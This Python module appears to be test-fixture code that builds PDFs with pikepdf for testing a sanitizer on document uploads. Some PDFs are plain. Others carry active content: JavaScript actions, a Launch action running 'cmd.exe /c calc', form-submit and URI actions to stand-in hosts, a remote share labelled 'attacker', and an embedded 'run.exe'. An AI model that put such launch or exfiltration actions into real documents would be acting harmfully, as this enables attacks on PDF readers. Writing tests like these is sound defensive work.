"""Real PDFs built with pikepdf for the upload tests: plain ones, and ones carrying active content."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

PAGE_TEXT = b"Complaint evidence, page"


def _new(pages: int) -> Pdf:
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(300, 200))
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (" + PAGE_TEXT + b" %d) Tj ET" % number)
    return pdf


def _bytes(pdf: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, fix_metadata_version=False, **options)  # type: ignore[arg-type]
    return out.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    return _bytes(_new(pages))


def decompressed(data: bytes) -> bytes:
    """Every object of ``data`` written out in the clear (QDF: streams decoded, no object streams)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return _bytes(
            pdf,
            qdf=True,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )


def _script(pdf: Pdf, marker: str) -> Dictionary:
    """A JavaScript action whose code is a compressed stream (found only once decompressed)."""
    code = pdf.make_stream(zlib.compress(f"app.alert('{marker}');".encode()), Filter=Name.FlateDecode)
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=code)


def _annotate(pdf: Pdf, annotation: Dictionary) -> None:
    page = pdf.pages[0]
    if "/Annots" not in page:
        page.Annots = pdf.make_indirect(Array([]))
    page.Annots.append(pdf.make_indirect(annotation))


def _link(pdf: Pdf, action: Dictionary, **extra: object) -> None:
    _annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 100, 40], A=action, **extra))


def _names(pdf: Pdf) -> Dictionary:
    if "/Names" not in pdf.Root:
        pdf.Root.Names = Dictionary()
    names: Dictionary = pdf.Root.Names
    return names


def _open_action(pdf: Pdf) -> None:
    pdf.Root.OpenAction = _script(pdf, "OPEN-ACTION-PAYLOAD")


def _launch(pdf: Pdf) -> None:
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))


def _remote_actions(pdf: Pdf) -> None:
    uri = Dictionary(S=Name.URI, URI=String("http://tracker.example/URI-PAYLOAD"))
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://collect.example/SUBMIT-PAYLOAD")))
    importing = Dictionary(S=Name.ImportData, F=String("IMPORT-PAYLOAD.fdf"))
    goto_remote = Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\GOTOR-PAYLOAD.pdf"), D=Array([0, Name.Fit]))
    # A harmless jump first, with the others chained after it through /Next.
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([submit, importing, goto_remote]))
    _link(pdf, uri)
    _link(pdf, goto)


def _embedded_file(pdf: Pdf) -> None:
    payload = pdf.make_stream(b"EMBEDDED-FILE-PAYLOAD MZ", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=payload)))
    _names(pdf).EmbeddedFiles = Dictionary(Names=Array([String("run.exe"), spec]))
    _annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec))


def _additional_actions(pdf: Pdf) -> None:
    _link(
        pdf,
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])),
        AA=Dictionary(E=_script(pdf, "ANNOT-AA-PAYLOAD")),
    )
    pdf.pages[0].AA = Dictionary(O=_script(pdf, "PAGE-AA-PAYLOAD"))
    pdf.Root.AA = Dictionary(WC=_script(pdf, "DOCUMENT-AA-PAYLOAD"))


def _names_javascript(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(_script(pdf, "NAMES-JS-PAYLOAD"))]))
    _names(pdf).JavaScript = pdf.make_indirect(tree)


def _xfa_form(pdf: Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp><script>XFA-FORM-PAYLOAD</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    pdf.Root.NeedsRendering = True


def _outline_script(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Open me"), A=_script(pdf, "OUTLINE-PAYLOAD")))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def _metadata(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = String("Zhang San METADATA-PAYLOAD")
    pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta>XMP-METADATA-PAYLOAD</x:xmpmeta>", Type=Name.Metadata)


# name -> (what adds it, the names and markers that must be gone from the stored copy)
ACTIVE: dict[str, tuple[Callable[[Pdf], None], tuple[bytes, ...]]] = {
    "javascript_open_action": (_open_action, (b"/OpenAction", b"/JavaScript", b"OPEN-ACTION-PAYLOAD")),
    "launch_action": (_launch, (b"/Launch", b"cmd.exe")),
    "uri_submit_import_gotor": (
        _remote_actions,
        (b"/URI", b"/SubmitForm", b"/ImportData", b"/GoToR", b"-PAYLOAD"),
    ),
    "embedded_file": (_embedded_file, (b"/EmbeddedFile", b"/FileAttachment", b"run.exe", b"EMBEDDED-FILE-PAYLOAD")),
    "additional_actions": (_additional_actions, (b"/AA", b"/JavaScript", b"AA-PAYLOAD")),
    "names_javascript": (_names_javascript, (b"/JavaScript", b"NAMES-JS-PAYLOAD")),
    "xfa_form": (_xfa_form, (b"/XFA", b"/NeedsRendering", b"XFA-FORM-PAYLOAD")),
    "outline_script": (_outline_script, (b"/JavaScript", b"OUTLINE-PAYLOAD")),
    "metadata": (_metadata, (b"METADATA-PAYLOAD", b"/Author", b"/Metadata")),
}


def active_pdf(*names: str, pages: int = 2) -> bytes:
    """A ``pages``-page PDF carrying the active content ``names`` (keys of ``ACTIVE``; all if none)."""
    pdf = _new(pages)
    for name in names or tuple(ACTIVE):
        ACTIVE[name][0](pdf)
    return _bytes(pdf)


def forbidden(*names: str) -> tuple[bytes, ...]:
    return tuple(marker for name in names or tuple(ACTIVE) for marker in ACTIVE[name][1])


def encrypted_pdf() -> bytes:
    return _bytes(_new(1), encryption=pikepdf.Encryption(user="open-sesame", owner="open-sesame"))


def owner_only_encrypted_pdf() -> bytes:
    """Printing restricted, no password to open (bank statements): opens, and is stored decrypted."""
    return _bytes(
        _new(1),
        encryption=pikepdf.Encryption(user="", owner="owner-only", allow=pikepdf.Permissions(print_highres=False)),
    )


def corrupt_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"\x00 this is not a PDF body \xff" * 40
